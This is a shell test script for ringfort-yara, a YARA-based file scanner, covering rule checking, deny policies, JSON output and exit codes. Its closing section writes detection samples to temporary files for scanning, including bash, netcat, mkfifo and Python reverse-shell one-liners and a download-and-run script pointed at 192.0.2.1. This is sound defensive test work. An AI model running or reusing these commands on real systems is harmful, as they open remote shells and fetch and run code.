#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# ringfort-yara as others call it: lines, counts and exit codes.
#
#	yara-tool.sh RINGFORT_YARA BUNDLED_RULES

tool=$1
bundled=$2
failed=0
work=$(mktemp -d /tmp/ringfort-yara-tool.XXXXXX) || exit 1
trap 'rm -rf "$work"' EXIT

# expect NAME EXIT_CODE PATTERN: the last run's exit code, and a line of its output (empty: any)
expect() {
	if [ "$code" != "$2" ] || { [ "$3" ] && ! grep -q -e "$3" "$work/out"; }; then
		echo "FAILED: $1: exit code $code, wanted $2 and \`$3':"
		cat "$work/out"
		failed=1
	fi
}

run() {
	"$tool" "$@" >"$work/out" 2>&1 </dev/null
	code=$?
}

mkdir -p "$work/rules" "$work/files"
cat >"$work/rules/a.yar" <<'END'
rule Bad : evil {
	meta: description = "it is bad" severity = "critical" author = "me"
	strings: $bad = "bad" nocase
	condition: $bad
}
rule Script : odd { condition: extension == ".sh" and owner != "" }
END
echo 'deny: [evil]' >"$work/rules/policy.yaml"
echo 'such a BAD one' >"$work/files/bad"
echo fine >"$work/files/good"
echo fine >"$work/files/odd.sh"
ln -s good "$work/files/link.sh"

run check "$bundled"
expect "the bundled rules are good" 0 '^8 rules, 0 refused$'
run check "$work/rules"
expect "good rules" 0 '^2 rules, 0 refused$'
printf 'rule x {\n  condition: y\n}\n' >"$work/rules/b.yara"
printf 'YARA\1\2' >"$work/rules/c.yarc"
printf 'deny: [evli]\n' >"$work/rules/more.yml"
run check "$work/rules"
expect "a refused file" 1 'b.yara:2: undefined identifier "y"$'
expect "compiled rules" 1 'c.yarc:0: compiled rules are never loaded: give their source$'
expect "a word that fits nothing" 1 "more.yml:1: no rule and no tag is called \`evli'$"
expect "the count comes last" 1 '^2 rules, 3 refused$'
run check "$work/nowhere"
expect "a path that is not there" 1 'nowhere:0: cannot be read: No such file'
run check
expect "no path" 2 '^Usage: ringfort-yara check'
run scan --rules "$work/rules" "$work/files/good"
expect "refusals are told, the rest is used" 0 'good: nothing found$'
rm "$work/rules/b.yara" "$work/rules/c.yarc" "$work/rules/more.yml"

run scan --rules "$work/rules" "$work/files/good" "$work/files/link.sh"
expect "nothing, also through a link" 0 'link.sh: nothing found$'
run scan --rules "$work/rules" "$work/files/good" "$work/files/bad"
expect "a denial" 1 'bad: deny: Bad (critical, .*a.yar): it is bad \[0x7:$bad\]$'
run scan --rules "$work/rules" "$work/files/odd.sh"
expect "by its name" 1 'odd.sh: report: Script (medium, .*a.yar): Script$'
run scan --json --rules "$work/rules" "$work/files/bad"
expect "as JSON" 1 '"verdict":"deny","not_scanned":null,"detail":null,"more":0,"matches":\[{"rule":"Bad","action":"deny","level":"critical","title":"it is bad","author":"me","strings":"0x7:$bad","references":\[\],"tags":\["evil"\],"source":".*a.yar"}\]}$'
run scan --json --rules "$work/rules" "$work/files/good"
expect "nothing as JSON" 0 '"verdict":"allow".*"matches":\[\]}$'
echo 'max_file_mb: 1' >"$work/rules/limits.yaml"
truncate -s 2M "$work/files/large"
run scan --rules "$work/rules" "$work/files/large"
expect "too large" 1 'large: not scanned: it is larger than max_file_mb$'
run check "$bundled" "$work/rules"
expect "rules and settings beside the bundled ones" 0 '^10 rules, 0 refused$'
run scan --rules "$work/rules" "$work/files/good" /dev/null
expect "what is no file" 2 'dev/null: Permission denied'
mkfifo "$work/files/pipe"
run scan --rules "$work/rules" "$work/files/pipe"
expect "a pipe is not waited for" 2 'pipe: Permission denied'
run scan --rules "$work/rules" "$work/files/nowhere"
expect "no such file" 2 'nowhere: No such file'
run scan --rules "$work/nowhere" "$work/files/good"
expect "without rules nothing is good" 2 'nowhere:0: cannot be read'
run scan --rules "$bundled" /bin/sh /bin/ls
expect "the bundled rules leave programs alone" 0 '/bin/sh: nothing found$'
# What each bundled rule is for; none of it does anything.
mkdir "$work/bundled"
elf='\177ELF\2\1\1'
printf '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/80 0>&1\n' >"$work/bundled/Script_Shell_Over_Network"
printf '#!/bin/sh\ncurl -o /tmp/x http://192.0.2.1/x\nchmod +x /tmp/x\n/tmp/x\nrm -f "$0"\n' \
	>"$work/bundled/Script_Download_And_Run"
printf "$elf UPX! ... \$Info: This file is packed with the UPX executable packer" >"$work/bundled/Elf_Packed_Upx"
printf "$elf stratum+tcp:// stratum+ssl:// donate-level" >"$work/bundled/Elf_Coin_Miner"
printf "$elf /etc/ld.so.preload dlsym readdir64 /proc/self/maps" >"$work/bundled/Elf_Preload_Rootkit"
printf 'X5O!P%%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-%s-TEST-FILE!$H+H*' ANTIVIRUS >"$work/bundled/Eicar_Test_File"
for rule in $(sed -n 's/^rule \([A-Za-z_]*\).*/\1/p' "$bundled"/*.yar); do
	run scan --rules "$bundled" "$work/bundled/$rule"
	expect "the bundled rule $rule" 1 "/$rule: report: $rule ("
	[ "$(wc -l <"$work/out")" = 1 ] || expect "$rule alone" 1 'no other rule'
done
for line in 'exec 5<>/dev/tcp/192.0.2.1/80' 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 80 >/tmp/f' \
	'nc 192.0.2.1 80 -e /bin/sh' 's=socket.socket(); os.dup2(s.fileno(),0); subprocess.call(["sh"])'; do
	printf '#!/bin/sh\n%s\n' "$line" >"$work/bundled/line"
	run scan --rules "$bundled" "$work/bundled/line"
	expect "a shell over the network by $line" 1 'Script_Shell_Over_Network'
done
run scan --rules "$bundled" "$tool"
expect "not what only quotes them" 0 'nothing found'

run scan --rules "$work/rules"
expect "no file" 2 '^Usage: ringfort-yara scan'

run run
expect "not started by ringfortd" 3 'no channel to ringfortd'
run run --now
expect "run takes nothing" 2 '^Usage: ringfort-yara run'
for command in "" check scan run; do
	run $command --help
	expect "help of $command" 0 '^Usage: ringfort-yara'
done
for command in check scan; do
	run $command --nonsense "$work/rules"
	expect "an unknown option of $command" 2 ''
done
run --version
expect "version" 0 '^ringfort-yara [0-9]'
run nonsense
expect "an unknown command" 2 'nonsense'
exit $failed
